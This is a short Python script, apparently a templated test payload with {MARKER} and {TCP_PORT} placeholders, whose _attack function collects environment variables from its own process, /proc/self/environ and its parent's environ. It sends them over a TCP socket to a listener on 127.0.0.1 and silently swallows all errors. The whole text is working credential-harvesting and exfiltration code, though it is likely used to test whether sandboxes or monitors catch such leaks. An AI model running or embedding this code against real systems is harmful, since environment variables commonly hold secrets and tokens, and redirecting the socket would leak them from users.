# Send the environment (its own, /proc/self/environ and its parent's) to a TCP listener on 127.0.0.1.
def _attack():
    import os
    import socket

    blobs = [b"HELLO {MARKER}\n", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()]
    for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ"):
        try:
            with open(path, "rb") as handle:
                blobs.append(handle.read())
        except OSError:
            pass
    with socket.create_connection(("127.0.0.1", int("{TCP_PORT}")), timeout=3) as connection:
        connection.sendall(b"\n".join(blobs))


try:
    _attack()
except Exception:
    pass
